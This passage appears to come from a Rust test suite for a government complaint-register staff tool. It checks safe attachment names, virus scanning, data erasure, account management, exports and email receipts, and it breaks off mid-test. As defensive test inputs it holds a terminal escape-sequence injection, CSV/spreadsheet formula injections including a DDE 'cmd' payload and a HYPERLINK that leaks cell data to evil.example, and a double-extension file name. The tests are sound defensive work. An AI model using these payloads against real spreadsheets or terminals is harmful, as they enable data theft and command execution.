async fn submit_with_files(db: &Path, files: &[(&str, &str, &[u8])]) -> String {
    let folder = LocalAttachments::open(&db.parent().unwrap().join("lampiran")).unwrap();
    let site = app(db, "2026-03-16T01:00:00Z").with_attachments(AnyAttachments::Local(folder));
    let req = Request::builder()
        .method("POST")
        .uri("/api/pengaduan")
        .header("content-type", "multipart/form-data; boundary=B0und4ry")
        .header("accept", "application/json")
        .body(Bytes::from(multipart(files)))
        .unwrap();
    let resp = handle(&site, req, None).await;
    assert_eq!(resp.status(), StatusCode::CREATED, "{}", String::from_utf8_lossy(resp.body()));
    let v: Value = serde_json::from_slice(resp.body()).unwrap();
    v["nomor"].as_str().unwrap().to_owned()
}

/// The names in `dir`, sorted.
fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> =
        std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    names
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unduh_saves_each_file_under_a_safe_name_with_its_detected_type() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pengaduan.db");
    let staf = Staf::sqlite(&db);
    let files: [(&str, &str, &[u8]); 2] =
        [("Bukti Transfer.pdf.cmd", "application/pdf", PDF), ("foto.svg", "image/svg+xml", PNG)];
    let nomor = submit_with_files(&db, &files).await;

    // Listed under the names the citizen gave, as text.
    let out = staf.ok(MON_16_MARCH, &["lampiran", &nomor]);
    assert!(out.contains("1. Bukti Transfer.pdf.cmd  (application/pdf"), "{out}");
    assert!(out.contains("2. foto.svg  (image/png"), "{out}");

    // Saved under names that open what the file is.
    let ke = dir.path().join("unduhan");
    let out = staf.ok(MON_16_MARCH, &["unduh", &nomor, "--ke", ke.to_str().unwrap()]);
    assert_eq!(names_in(&ke), ["1-Bukti Transfer.pdf", "2-foto.png"], "{out}");
    assert_eq!(std::fs::read(ke.join("1-Bukti Transfer.pdf")).unwrap(), PDF);
    assert_eq!(std::fs::read(ke.join("2-foto.png")).unwrap(), PNG);
    assert!(out.contains("1-Bukti Transfer.pdf") && !out.contains(".cmd") && !out.contains(".svg"), "{out}");
    assert_eq!(
        entries(&audit_trail(&db).await, AuditAction::DownloadAttachment),
        [(OS_USER.as_str(), None, Some(nomor.as_str()), "pengaduan-staf: lampiran 1, 2")],
        "recorded before the files are written"
    );

    // A second run writes nothing over the first.
    let again = staf.run(MON_16_MARCH, &["unduh", &nomor, "--ke", ke.to_str().unwrap()]);
    assert_eq!(again.code, 1);
    assert!(again.stderr.contains("tidak ditimpa"), "{}", again.stderr);
    assert_eq!(names_in(&ke), ["1-Bukti Transfer.pdf", "2-foto.png"]);

    // A manifest written before names were sanitised: the name is shown escaped, saved safe.
    let manifest = dir.path().join("lampiran/lampiran").join(&nomor).join("manifest.json");
    let mut m: Value = serde_json::from_slice(&std::fs::read(&manifest).unwrap()).unwrap();
    m["files"][0]["display_name"] = json!("Bukti\u{1b}[2J\u{7}.pdf");
    std::fs::write(&manifest, m.to_string()).unwrap();
    let out = staf.ok(MON_16_MARCH, &["lampiran", &nomor]);
    assert!(out.contains(r"1. Bukti\x1b[2J\x07.pdf  (application/pdf"), "{out}");
    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out:?}");
    let fresh = dir.path().join("unduhan-2");
    staf.ok(MON_16_MARCH, &["unduh", &nomor, "--ke", fresh.to_str().unwrap()]);
    assert_eq!(names_in(&fresh), ["1-Bukti_2J.pdf", "2-foto.png"]);
}

/// With `CLAMD_URL`, `unduh` scans what was not scanned yet and writes only clean files: the
/// PDF carrying the EICAR test string stays out of the folder, and that is audited.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unduh_with_clamd_never_writes_an_infected_file() {
    use pengaduan_store::testing::{ClamdServer, EICAR_PDF, EICAR_SIGNATURE};
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pengaduan.db");
    let mut staf = Staf::sqlite(&db);
    staf.env.push(("CLAMD_URL".into(), ClamdServer::shared().url.clone()));
    let files: [(&str, &str, &[u8]); 2] =
        [("surat.pdf", "application/pdf", PDF), ("bukti.pdf", "application/pdf", EICAR_PDF)];
    let nomor = submit_with_files(&db, &files).await;
    let ke = dir.path().join("unduhan");
    let out = staf.ok(MON_16_MARCH, &["unduh", &nomor, "--ke", ke.to_str().unwrap()]);
    assert_eq!(names_in(&ke), ["1-surat.pdf"], "{out}");
    assert!(out.contains(&format!("Tidak disimpan: lampiran 2 (terinfeksi: {EICAR_SIGNATURE})")), "{out}");
    let trail = audit_trail(&db).await;
    assert_eq!(
        entries(&trail, AuditAction::DownloadAttachment),
        [(OS_USER.as_str(), None, Some(nomor.as_str()), "pengaduan-staf: lampiran 1")]
    );
    let withheld = format!("pengaduan-staf: lampiran 2: terinfeksi: {EICAR_SIGNATURE}");
    assert_eq!(
        entries(&trail, AuditAction::DownloadWithheld),
        [(OS_USER.as_str(), None, Some(nomor.as_str()), withheld.as_str())]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn erasure_deletes_the_attachments_and_says_how_many() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pengaduan.db");
    let staf = Staf::sqlite(&db);
    let nomor = submit_with_files(&db, &[("ktp.pdf", "application/pdf", PDF)]).await;
    let folder = dir.path().join("lampiran/lampiran").join(&nomor);
    assert!(folder.is_dir(), "the default folder beside the database");
    assert!(staf.ok(MON_16_MARCH, &["lampiran", &nomor]).contains("1. ktp.pdf"));

    let out = staf.ok(MON_16_MARCH, &["hapus-data-pribadi", &nomor, "--alasan", "Permintaan pengadu"]);
    assert!(out.contains(", 1 lampirannya, dan salinan surel"), "{out}");
    assert_eq!(
        entries(&audit_trail(&db).await, AuditAction::ErasePersonalData),
        [(OS_USER.as_str(), None, Some(nomor.as_str()), "pengaduan-staf: 1 lampiran dihapus")]
    );
    let out = staf.ok(MON_16_MARCH, &["lampiran", &nomor]);
    assert_eq!(out, format!("{nomor} tidak mempunyai lampiran.\n"));
    assert!(!folder.exists(), "{} is gone", folder.display());
    let out = staf.ok(MON_16_MARCH, &["lihat", &nomor]);
    assert!(out.contains("(dihapus atas permintaan pada") && out.contains("; 1 lampiran ikut dihapus)"), "{out}");
    assert!(!out.contains("Siti Rahayu") && !out.contains("ktp.pdf"), "{out}");
    let ke = dir.path().join("unduhan");
    let out = staf.ok(MON_16_MARCH, &["unduh", &nomor, "--ke", ke.to_str().unwrap()]);
    assert!(out.contains("tidak ada yang disimpan") && !ke.exists(), "{out}");
}

// ---- Stored text that a terminal or a spreadsheet would act on ----

/// A complaint stored as an older version of the site could have stored it, before input was
/// checked as strictly as now: straight into the tool's SQLite file.
fn insert_raw_complaint(db: &Path, nomor: &str, seq: i64, text: &str) {
    let conn = rusqlite::Connection::open(db).unwrap();
    conn.execute(
        "INSERT INTO complaints (nomor, prefix, year, seq, kode_hash, channel, jenis, judul, status, received_at,
             anonim, rahasia, layanan, isi, lokasi)
         VALUES (?1, 'PGD', 2026, ?2, 'x', 'telepon', 'pengaduan', ?3, 'diterima', '2026-03-16T02:00:00Z',
             0, 0, ?4, ?5, ?6)",
        rusqlite::params![
            nomor,
            seq,
            format!("Judul {text}"),
            format!("Layanan {text}"),
            format!("Isi {text}\nbaris kedua"),
            format!("Lokasi {text}"),
        ],
    )
    .unwrap();
    conn.execute(
        "INSERT INTO personal_data (nomor, nama, email, telepon, nik, alamat) VALUES (?1, ?2, NULL, NULL, NULL, ?3)",
        rusqlite::params![nomor, format!("Nama {text}"), format!("Alamat {text}")],
    )
    .unwrap();
    conn.execute(
        "INSERT INTO history (nomor, seq, at, by_name, action, from_status, to_status, note)
         VALUES (?1, 1, '2026-03-16T02:00:00Z', ?2, 'dicatat', NULL, 'diterima', ?3)",
        rusqlite::params![nomor, format!("Petugas {text}"), format!("Catatan {text}\nbaris kedua")],
    )
    .unwrap();
}

const TERMINAL_ATTACK: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J";
const SPELLED_OUT: &str = r"\x1b]0;owned\x07\x1b[2J";

#[test]
fn stored_control_sequences_are_shown_escaped_never_sent_to_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pengaduan.db");
    let staf = Staf::sqlite(&db);
    assert!(staf.ok(MON_16_MARCH, &["daftar"]).contains("Tidak ada pengaduan"), "the tool creates the file");
    insert_raw_complaint(&db, "PGD-2026-00001", 1, TERMINAL_ATTACK);

    let out = staf.ok(MON_16_MARCH, &["daftar"]);
    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out:?}");
    assert!(out.contains(&format!("Judul {SPELLED_OUT}")), "{out}");

    let out = staf.ok(MON_16_MARCH, &["lihat", "PGD-2026-00001"]);
    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out:?}");
    for needle in [
        format!("Judul            : Judul {SPELLED_OUT}\n"),
        format!("Layanan          : Layanan {SPELLED_OUT}\n"),
        format!("Lokasi           : Lokasi {SPELLED_OUT}\n"),
        // The complaint's text and notes keep their lines.
        format!("Isi              : Isi {SPELLED_OUT}\nbaris kedua\n"),
        format!("  Nama    : Nama {SPELLED_OUT}\n"),
        format!("  Alamat  : Alamat {SPELLED_OUT}\n"),
        format!("Petugas {SPELLED_OUT}\n"),
        format!("Catatan: Catatan {SPELLED_OUT}\nbaris kedua\n"),
    ] {
        assert!(out.contains(&needle), "lihat lacks {needle:?}:\n{out}");
    }
}

#[test]
fn exported_titles_are_never_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pengaduan.db");
    let staf = Staf::sqlite(&db);
    let titles = [r#"=HYPERLINK("http://evil.example/?x="&A1,"klik")"#, "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3"];
    let conn = rusqlite::Connection::open(&db).unwrap();
    for (i, title) in titles.iter().enumerate() {
        let judul = format!("Pengaduan nomor {i}");
        let isi = format!("Isi pengaduan nomor {i} yang cukup panjang untuk diterima.");
        let mut args = catat_args(&["--persetujuan"]);
        args[6] = &judul;
        args[8] = &isi;
        let (nomor, _) = number_and_code(&staf.ok(MON_16_MARCH, &args));
        // Some of these the form refuses today (too short); stored before, or by another tool.
        conn.execute("UPDATE complaints SET judul = ?1 WHERE nomor = ?2", [title, &nomor.as_str()]).unwrap();
    }
    let csv_path = dir.path().join("register.csv");
    let xlsx_path = dir.path().join("register.xlsx");
    staf.ok(
        MON_16_MARCH,
        &[
            "ekspor",
            "--dari",
            "2026-03-01",
            "--sampai",
            "2026-03-31",
            "--csv",
            csv_path.to_str().unwrap(),
            "--xlsx",
            xlsx_path.to_str().unwrap(),
        ],
    );

    let rows: Vec<csv::StringRecord> =
        csv::Reader::from_path(&csv_path).unwrap().records().map(Result::unwrap).collect();
    let judul: Vec<&str> = rows.iter().map(|r| &r[4]).collect();
    let quoted: Vec<String> = titles.iter().map(|t| format!("'{t}")).collect();
    assert_eq!(judul, quoted);
    assert_eq!(&rows[0][0], "PGD-2026-00001", "other cells as they were");

    let mut zip = zip::ZipArchive::new(std::fs::File::open(&xlsx_path).unwrap()).unwrap();
    let mut sheet = String::new();
    zip.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "no formula anywhere:\n{sheet}");
    for row in 2..=5 {
        let start = sheet.find(&format!("<c r=\"E{row}\"")).unwrap_or_else(|| panic!("E{row} in\n{sheet}"));
        let tag = &sheet[start..start + sheet[start..].find('>').unwrap()];
        assert!(tag.contains("t=\"s\"") || tag.contains("t=\"inlineStr\""), "E{row} is text: {tag}");
    }
    let mut strings = String::new();
    zip.by_name("xl/sharedStrings.xml").unwrap().read_to_string(&mut strings).unwrap();
    for title in ["@SUM(1+1)", "-2+3", "=HYPERLINK("] {
        assert!(strings.contains(title), "{title} kept as written in the workbook");
    }
}

// ---- DynamoDB, through moto's server ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_whole_path_on_dynamodb() {
    let moto = Moto::start();
    let store = moto.store().await;
    // Erasure deletes attachments first, so the tool needs the bucket as the deployed one has it.
    let bucket = pengaduan_store::testing::new_bucket(&moto.s3().await).await;
    let mut env = moto.env();
    env.push(("ATTACHMENTS_BUCKET".to_owned(), bucket));
    let staf = Staf { store: format!("dynamodb:{}", store.table()), env, root: repo_root() };
    let (nomor, _) = number_and_code(&staf.ok(MON_16_MARCH, &catat_args(&["--persetujuan"])));
    assert_eq!(nomor, "PGD-2026-00001");
    staf.ok(TUE_17_MARCH, &["lengkap", &nomor, "--prosedur", "penyelesaian"]);
    let mut last = String::new();
    for _ in 4..=11 {
        last = staf.ok(FRI_20_MARCH, &["lanjut", &nomor, "--catatan", "selesai"]);
    }
    assert!(last.contains("Pengaduan selesai"), "{last}");
    let out = staf.ok(FRI_20_MARCH, &["lihat", &nomor]);
    assert!(out.contains("Nomor BA         : BA-2026-00001") && out.contains("#10"), "{out}");
    let dir = tempfile::tempdir().unwrap();
    let csv_path = dir.path().join("r.csv");
    staf.ok(
        FRI_20_MARCH,
        &["ekspor", "--dari", "2026-03-01", "--sampai", "2026-03-31", "--csv", csv_path.to_str().unwrap()],
    );
    let rows: Vec<csv::StringRecord> =
        csv::Reader::from_path(&csv_path).unwrap().records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][8], "BA-2026-00001");
    // Stored after the month indexes existed: the backfill finds it filed already.
    let out = staf.ok(FRI_20_MARCH, &["indeks-bulan"]);
    assert_eq!(out.trim(), "1 pengaduan diperiksa, 0 diberi bulan diterima/selesai.");
    // Stored with its personal data under its own key: nothing to move.
    let out = staf.ok(FRI_20_MARCH, &["pindah-data-pribadi"]);
    assert_eq!(out.trim(), "1 pengaduan diperiksa, 0 data pribadi dipindahkan.");
    staf.ok(FRI_20_MARCH, &["hapus-data-pribadi", &nomor, "--alasan", "Permintaan"]);
    assert!(staf.ok(FRI_20_MARCH, &["daftar", "--status", "selesai"]).contains(&nomor));

    // The first admin account, on a machine with only the table's credentials.
    let nowhere = Staf { root: dir.path().join("kosong"), ..staf };
    let run = nowhere.run_with_input(
        FRI_20_MARCH,
        &["pengguna", "tambah", "admin", "--peran", "admin"],
        Some(&format!("{PASSWORD}\n")),
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let out = nowhere.ok(FRI_20_MARCH, &["pengguna", "daftar"]);
    assert!(out.contains("admin") && out.contains("1 akun, 1 aktif."), "{out}");
    let admin = store.account("admin").await.unwrap().unwrap();
    assert!(verify_password(PASSWORD, &admin.password_hash));
}

// ---- Staff accounts (`pengguna`) ----

/// A password long enough and not on the common list.
const PASSWORD: &str = "kuda lumping hitam";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn accounts_are_made_listed_deactivated_and_reset_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pengaduan.db");
    // No content at all under --root: accounts need only the store.
    let staf = Staf { root: dir.path().join("kosong"), ..Staf::sqlite(&db) };
    let tambah = |user: &str, peran: &str, input: &str| {
        staf.run_with_input(MON_16_MARCH, &["pengguna", "tambah", user, "--peran", peran], Some(input))
    };

    // Created with the password from standard input (one line, its CRLF ending dropped).
    let run = staf.run_with_input(
        MON_16_MARCH,
        &["pengguna", "tambah", "Rina", "--peran", "front-office", "--nama", "Rina Wati"],
        Some(&format!("{PASSWORD}\r\nbaris kedua diabaikan\n")),
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.contains("Akun rina dibuat: Rina Wati, peran Front Office"), "{}", run.stdout);
    let store = SqliteStore::open(&db).unwrap();
    let rina = store.account("rina").await.unwrap().expect("stored under the normalised name");
    assert_eq!((rina.name.as_str(), rina.role, rina.active), ("Rina Wati", Role::FrontOffice, true));
    assert!(rina.password_hash.starts_with("$argon2id$"), "{}", rina.password_hash);
    assert!(verify_password(PASSWORD, &rina.password_hash), "the line without its ending");
    assert_eq!(rina.created_at, MON_16_MARCH.parse::<Timestamp>().unwrap());
    let run = tambah("budi", "jft", &format!("{PASSWORD}\n"));
    assert_eq!(run.code, 0, "{}", run.stderr);

    // Refused, with nothing stored: a taken name, a short, common or missing password, a bad name or role.
    let refused = |run: Run, message: &str| {
        assert_eq!(run.code, 1, "{}", run.stderr);
        assert!(run.stderr.contains(message), "expected {message:?} in {}", run.stderr);
    };
    refused(tambah("rina", "admin", &format!("{PASSWORD}\n")), "Pengguna rina sudah ada.");
    refused(tambah("wati", "admin", "pendek-seka\n"), "Kata sandi minimal 12 karakter.");
    refused(tambah("wati", "admin", "password1234\n"), "Kata sandi terlalu umum; pilih yang lain.");
    refused(tambah("wati", "admin", ""), "Kata sandi kosong");
    refused(tambah("wati", "admin", "\n"), "Kata sandi kosong");
    refused(
        tambah("wati", "ketua", &format!("{PASSWORD}\n")),
        "Peran \"ketua\" tidak dikenal; pilih salah satu: front-office, jft, kepala-bidang, kepala-dinas, editor, admin.",
    );
    refused(tambah("1wati", "admin", &format!("{PASSWORD}\n")), "Nama pengguna harus diawali huruf a-z.");
    refused(tambah("wati", "admin", "wati-kuda-lumping\n"), "tidak boleh sama dengan atau memuat nama pengguna");
    assert_eq!(store.accounts().await.unwrap().len(), 2);

    // Listed without hashes.
    let out = staf.ok(MON_16_MARCH, &["pengguna", "daftar"]);
    assert!(out.contains("NAMA PENGGUNA") && out.contains("2 akun, 2 aktif."), "{out}");
    let line = out.lines().find(|l| l.starts_with("rina ")).unwrap();
    for cell in ["Rina Wati", "Front Office", "aktif", "2026-03-16"] {
        assert!(line.contains(cell), "{line}");
    }
    assert!(out.lines().any(|l| l.starts_with("budi ") && l.contains("JFT Analis Kebijakan")), "{out}");
    assert!(!out.contains("argon2") && !out.contains(&rina.password_hash), "{out}");

    // Deactivation ends the account's sessions.
    let session = |username: &str| {
        let (_, id_digest) = new_session_id();
        let at: Timestamp = MON_16_MARCH.parse().unwrap();
        Session {
            id_digest,
            username: username.into(),
            role: Role::Jft,
            csrf_token: new_csrf_token(),
            created_at: at,
            last_seen: at,
        }
    };
    let (budi_session, rina_session) = (session("budi"), session("rina"));
    store.create_session(budi_session.clone()).await.unwrap();
    store.create_session(rina_session.clone()).await.unwrap();
    let out = staf.ok(MON_16_MARCH, &["pengguna", "nonaktifkan", "budi"]);
    assert!(out.contains("Akun budi dinonaktifkan") && out.contains("sesinya telah diakhiri"), "{out}");
    assert!(!store.account("budi").await.unwrap().unwrap().active);
    assert_eq!(store.session(&budi_session.id_digest).await.unwrap(), None);
    assert_eq!(store.session(&rina_session.id_digest).await.unwrap(), Some(rina_session.clone()), "others keep theirs");
    assert!(staf.ok(MON_16_MARCH, &["pengguna", "daftar"]).contains("2 akun, 1 aktif."));
    refused(staf.run(MON_16_MARCH, &["pengguna", "nonaktifkan", "wati"]), "Pengguna wati tidak ditemukan");
    let out = staf.ok(MON_16_MARCH, &["pengguna", "aktifkan", "budi"]);
    assert!(out.contains("Akun budi aktif kembali"), "{out}");
    assert!(store.account("budi").await.unwrap().unwrap().active);
    assert!(staf.ok(MON_16_MARCH, &["pengguna", "aktifkan", "budi"]).contains("sudah aktif"));

    // A reset changes the hash, keeps the policy, and ends the sessions too.
    let new = "kuda lumping putih";
    refused(staf.run_with_input(MON_16_MARCH, &["pengguna", "sandi", "rina"], Some("password1234\n")), "terlalu umum");
    let run = staf.run_with_input(FRI_20_MARCH, &["pengguna", "sandi", "rina"], Some(&format!("{new}\n")));
    assert_eq!(run.code, 0, "{}", run.stderr);
    let after = store.account("rina").await.unwrap().unwrap();
    assert_ne!(after.password_hash, rina.password_hash);
    assert!(verify_password(new, &after.password_hash) && !verify_password(PASSWORD, &after.password_hash));
    assert_eq!(after.password_set_at, FRI_20_MARCH.parse::<Timestamp>().unwrap());
    assert_eq!((after.created_at, after.active), (rina.created_at, true));
    assert_eq!(store.session(&rina_session.id_digest).await.unwrap(), None);

    // Each change in the audit trail, under the operating-system user, never with the password.
    let trail = audit_trail(&db).await;
    assert_eq!(
        entries(&trail, AuditAction::AccountChanged),
        [
            (OS_USER.as_str(), None, None, "pengaduan-staf: tambah rina (front-office)"),
            (OS_USER.as_str(), None, None, "pengaduan-staf: tambah budi (jft)"),
            (OS_USER.as_str(), None, None, "pengaduan-staf: nonaktifkan budi"),
            (OS_USER.as_str(), None, None, "pengaduan-staf: aktifkan budi"),
            (OS_USER.as_str(), None, None, "pengaduan-staf: sandi rina"),
        ]
    );
    assert!(trail.iter().all(|e| !e.detail.contains("kuda")), "{trail:?}");

    // The content editor's role, by its code.
    let run = tambah("dewi", "editor", &format!("{PASSWORD}\n"));
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.contains("peran Editor Konten"), "{}", run.stdout);
    assert_eq!(store.account("dewi").await.unwrap().unwrap().role, Role::Editor);
}

/// `USER=kadis pengaduan-staf lihat` was recorded as `kadis`: the audit trail's "who" is the
/// account the process runs as, whatever the environment claims.
#[tokio::test]
async fn the_audit_trail_names_the_operating_system_account_not_what_user_claims() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("p.db");
    let mut staf = Staf::sqlite(&db);
    assert_ne!(*OS_USER, CLAIMED_USER, "the test needs an account other than the claimed one");
    let (nomor, _) = number_and_code(&staf.ok(MON_16_MARCH, &catat_args(&["--persetujuan"])));
    for unset in ["USER", "LOGNAME"] {
        // Each variable alone, and none at all: the account is the same.
        staf.env = vec![(unset.into(), String::new())];
        let out = staf.ok(MON_16_MARCH, &["lihat", &nomor]);
        let signed = format!("  {} (pengaduan-staf)\n       dicatat di Buku Register Pengaduan", *OS_USER);
        assert!(out.contains(&signed), "{out}");
        assert!(!out.contains(&format!("{CLAIMED_USER} (pengaduan-staf)")), "{out}");
    }
    let views = entries(&audit_trail(&db).await, AuditAction::ViewPersonalData)
        .into_iter()
        .map(|(user, ..)| user.to_owned())
        .collect::<Vec<_>>();
    assert_eq!(views, [OS_USER.clone(), OS_USER.clone()]);
}

/// `skm`: the IKM of a period from the survey answers given in it, worked by hand in
/// `pengaduan_core::skm` (four respondents: IKM 80,56, mutu B), printed and written as CSV.
#[tokio::test]
async fn skm_computes_the_ikm_of_a_period() {
    use pengaduan_core::skm::Answers;
    use pengaduan_store::survey::SurveyStore;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pengaduan.db");
    {
        let store = SqliteStore::open(&db).unwrap();
        let answers = [
            ("2026-03-02T01:00:00Z", [4, 3, 3, 4, 3, 3, 4, 2, 3]),
            ("2026-03-10T05:00:00Z", [3, 3, 2, 4, 3, 4, 4, 3, 3]),
            ("2026-03-20T09:00:00Z", [4, 4, 3, 4, 3, 3, 4, 2, 4]),
            // 31 March, 23.30 WIB: still in March in the office's time zone.
            ("2026-03-31T16:30:00Z", [3, 3, 2, 4, 3, 3, 3, 3, 3]),
            // 1 April, 00.30 WIB: outside.
            ("2026-03-31T17:30:00Z", [1, 1, 1, 1, 1, 1, 1, 1, 1]),
        ];
        for (i, (at, values)) in answers.into_iter().enumerate() {
            let stored = store
                .record_survey(&format!("PGD-2026-{:05}", i + 1), Answers::new(values).unwrap(), at.parse().unwrap())
                .await
                .unwrap();
            assert!(stored);
        }
    }
    let staf = Staf::sqlite(&db);
    let csv_path = dir.path().join("ikm.csv");
    let out = staf.ok(
        FRI_20_MARCH,
        &["skm", "--dari", "2026-03-01", "--sampai", "2026-03-31", "--csv", csv_path.to_str().unwrap()],
    );
    assert!(out.contains("Jumlah responden: 4"), "{out}");
    assert!(out.contains("U3 Waktu penyelesaian"), "{out}");
    let u3 = out.lines().find(|l| l.starts_with("U3 ")).unwrap();
    assert!(u3.contains("2,50") && u3.contains("62,50") && u3.contains("D (Tidak Baik)"), "{u3}");
    let u4 = out.lines().find(|l| l.starts_with("U4 ")).unwrap();
    assert!(u4.contains("100,00") && u4.contains("A (Sangat Baik)"), "{u4}");
    assert!(out.contains("IKM unit pelayanan (jumlah NRR tertimbang): 3,222"), "{out}");
    assert!(out.contains("IKM (nilai konversi, × 25): 80,56, mutu pelayanan B (Baik)"), "{out}");

    let mut reader = csv::Reader::from_path(&csv_path).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 10, "nine unsur and the IKM");
    assert_eq!(&rows[0][0], "U1");
    assert_eq!(&rows[0][2], "3.50");
    assert_eq!(&rows[9][0], "IKM");
    assert_eq!(&rows[9][4], "80.56");
    assert_eq!(&rows[9][5], "B");
    assert_eq!(&rows[9][7], "4");

    let empty = staf.ok(FRI_20_MARCH, &["skm", "--dari", "2026-05-01", "--sampai", "2026-05-31"]);
    assert!(empty.contains("Jumlah responden: 0"), "{empty}");
    let wrong = staf.run(FRI_20_MARCH, &["skm", "--dari", "2026-03-31", "--sampai", "2026-03-01"]);
    assert_eq!(wrong.code, 1);
    assert!(wrong.stderr.contains("jatuh setelah"), "{}", wrong.stderr);
}

/// A message file as written, with quoted-printable soft line breaks joined.
fn read_eml(path: &Path) -> String {
    let raw = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    raw.replace("=\r\n", "").replace("=\n", "")
}

#[test]
fn the_complainant_is_written_to_beside_the_database_after_each_change() {
    let dir = tempfile::tempdir().unwrap();
    let staf = Staf::sqlite(&dir.path().join("data/pengaduan.db"));
    let out = staf.ok(MON_16_MARCH, &catat_args(&["--persetujuan", "--email", "ahmad@contoh.co.id"]));
    assert!(out.contains("Surel kepada pengadu: 1 terkirim."), "{out}");
    let (nomor, kode) = number_and_code(&out);
    let mail = dir.path().join("data/surel");
    let receipt = read_eml(&mail.join(format!("{nomor}-000001.eml")));
    assert!(receipt.contains("\nTo: \"Ahmad Yani\" <ahmad@contoh.co.id>"), "{receipt}");
    assert!(receipt.contains(&nomor) && receipt.contains(&kode), "the receipt holds the number and the code");

    let out = staf.ok(MON_16_MARCH, &["kembalikan", &nomor, "--alasan", "Lampirkan fotokopi KTP"]);
    assert!(out.contains("Surel kepada pengadu: 1 terkirim."), "{out}");
    let returned = read_eml(&mail.join(format!("{nomor}-000002.eml")));
    assert!(returned.contains("Lampirkan fotokopi KTP"), "the reason is what to complete: {returned}");
    assert!(!returned.contains(&kode), "only the receipt carries the code");
    assert!(!returned.contains(&format!("{} (pengaduan-staf)", *OS_USER)), "no staff name");

    // A command that changes nothing sends nothing; nothing failed.
    let out = staf.ok(MON_16_MARCH, &["surel", "kirim"]);
    assert_eq!(out, "Tidak ada surel yang menunggu dikirim.\n");
    assert!(staf.ok(MON_16_MARCH, &["surel", "gagal"]).contains("Tidak ada surel yang gagal terkirim."));
    let refused = staf.run(MON_16_MARCH, &["surel", "ulang", &format!("{nomor}#000002")]);
    assert_eq!(refused.code, 1, "a sent message is not failed");
    assert!(refused.stderr.contains("tidak ada di daftar gagal"), "{}", refused.stderr);
    assert_eq!(std::fs::read_dir(&mail).unwrap().count(), 2, "one file per message, no temporary files left");
}

/// A complaint sent through the English form gets its mail in English from the staff tool too:
/// the language is the complaint's, stored at intake, not the tool's.
#[tokio::test]
async fn a_complaint_taken_in_english_is_told_of_a_staff_change_in_english() {
    use pengaduan_store::intake::{Intake, Replay, intake};
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("data/pengaduan.db");
    let received: jiff::Zoned = "2026-03-16T08:30:00+07:00[Asia/Jakarta]".parse().unwrap();
    let english = Intake {
        lang: pengaduan_core::Lang::En,
        deadline_rule: Some("2 to 10 working days".into()),
        ..Intake::online(
            pengaduan_store::testing::submission(1),
            Vec::new(),
            received,
            Replay::Key("kunci-inggris-1".into()),
        )
    };
    let store = SqliteStore::open(&db).unwrap();
    let nomor = match intake(&store, &pengaduan_store::Config::default(), english).await.unwrap() {
        pengaduan_store::Submitted::New(r) => r.nomor,
        other => panic!("a new complaint, got {other:?}"),
    };
    drop(store);

    let staf = Staf::sqlite(&db);
    let out = staf.ok(MON_16_MARCH, &["kembalikan", &nomor, "--alasan", "Attach a copy of your ID card"]);
    assert!(out.contains("terkirim"), "{out}");
    let mail = dir.path().join("data/surel");
    let receipt = read_eml(&mail.join(format!("{nomor}-000001.eml")));
    assert!(receipt.contains(&format!("\nSubject: Receipt: Complaint {nomor}")), "{receipt}");
    assert!(receipt.contains("2 to 10 working days"), "{receipt}");
    let returned = read_eml(&mail.join(format!("{nomor}-000002.eml")));
    assert!(returned.contains(&format!("\nSubject: Status of report {nomor}: Needs more documents")), "{returned}");
    for needle in ["Dear ", "What you need to complete", "Attach a copy of your ID card", "/en/track/"] {
        assert!(returned.contains(needle), "{needle:?} missing: {returned}");
    }
    for word in ["Yth.", "Perlu dilengkapi", "Nomor register", "/lacak/", "Hormat kami"] {
        assert!(!returned.contains(word), "{word:?} in an English email: {returned}");
    }
}

/// A foreign investor who telephoned: `catat --bahasa en` writes the receipt in English, with the
/// time limit as the English service page states it; an unknown language is refused.
#[test]
fn a_complaint_recorded_with_bahasa_en_gets_an_english_receipt() {
    let dir = tempfile::tempdir().unwrap();
    let staf = Staf::sqlite(&dir.path().join("data/pengaduan.db"));
    let refused = staf.run(MON_16_MARCH, &catat_args(&["--persetujuan", "--bahasa", "fr"]));
    assert_ne!(refused.code, 0);
    assert!(refused.stderr.contains("Bahasa \"fr\" tidak dikenal; pilih id atau en."), "{}", refused.stderr);
    assert!(!dir.path().join("data/surel").exists(), "nothing recorded");

    let out = staf.ok(MON_16_MARCH, &catat_args(&["--persetujuan", "--email", "john@example.com", "--bahasa", "en"]));
    let (nomor, _) = number_and_code(&out);
    let receipt = read_eml(&dir.path().join(format!("data/surel/{nomor}-000001.eml")));
    assert!(receipt.contains(&format!("\nSubject: Receipt: Complaint {nomor}")), "{receipt}");
    assert!(
